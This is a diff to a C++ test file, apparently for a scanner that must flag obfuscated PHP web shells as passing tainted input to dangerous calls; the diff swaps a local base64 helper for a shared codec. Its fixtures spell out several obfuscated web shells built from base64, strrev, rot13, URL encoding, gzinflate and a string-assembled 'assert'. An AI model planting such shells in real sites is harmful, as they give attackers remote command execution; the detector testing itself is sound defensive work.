@@ -1,6 +1,7 @@
 // Obfuscated shells written by the team from common hiding techniques. Each
 // must end in its inner dangerous call being reported with tainted input.
 
+#include "support/codec.h"
 #include "support/scan_record.h"
 
 #include <algorithm>
@@ -11,23 +12,10 @@
 
 namespace {
 
+using codec::base64;
 using scan_record::deflate_with;
 using scan_record::run;
 using Trace = scan_record::Seen;
-
-std::string b64(const std::string& in) {
-  static const char* abc = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-  std::string out;
-  for (size_t i = 0; i < in.size(); i += 3) {
-    size_t left = in.size() - i;
-    unsigned v = (unsigned char)in[i] << 16;
-    if (left > 1) v |= (unsigned char)in[i + 1] << 8;
-    if (left > 2) v |= (unsigned char)in[i + 2];
-    out += {abc[v >> 18], abc[(v >> 12) & 63], left > 1 ? abc[(v >> 6) & 63] : '=',
-            left > 2 ? abc[v & 63] : '='};
-  }
-  return out;
-}
 
 std::string rot13(std::string s) {
   for (char& c : s) {
@@ -66,11 +54,11 @@ std::vector<Shell> shells() {
   const std::string inner = "system($_POST_DATA)";
   return {
       {"base64 of strrev",
-       "<?php $x = strrev('" + reversed(b64(payload)) + "'); eval(base64_decode($x));", inner},
+       "<?php $x = strrev('" + reversed(base64(payload)) + "'); eval(base64_decode($x));", inner},
       {"urlencoded", "<?php eval(urldecode('%73%79%73%74%65%6d($_COOKIE[%27k%27]);'));",
        "system($_COOKIE_DATA)"},
       {"create_function",
-       "<?php $f = create_function('', base64_decode('" + b64("system($_REQUEST['x']);") +
+       "<?php $f = create_function('', base64_decode('" + base64("system($_REQUEST['x']);") +
            "')); $f();",
        "system($_REQUEST_DATA)"},
       {"replace-built name", "<?php $f = str_replace('#', '', 'a#s#s#e#r#t'); $f($_POST['c']);",
@@ -79,13 +67,13 @@ std::vector<Shell> shells() {
        "exec($_GET_DATA)"},
       {"nested layers",
        "<?php eval(base64_decode('" +
-           b64("eval(str_rot13(\"" + rot13("eval(strrev('" + reversed(payload) + "'));") +
-               "\"));") +
+           base64("eval(str_rot13(\"" + rot13("eval(strrev('" + reversed(payload) + "'));") +
+                  "\"));") +
            "'));",
        inner},
       {"gzinflate of strrev of base64",
-       "<?php eval(gzinflate(base64_decode(strrev('" + reversed(b64(deflate_with(payload, -15))) +
-           "'))));",
+       "<?php eval(gzinflate(base64_decode(strrev('" +
+           reversed(base64(deflate_with(payload, -15))) + "'))));",
        inner},
       sample("layered_base64.php"),
       sample("rot13_strrev.php"),
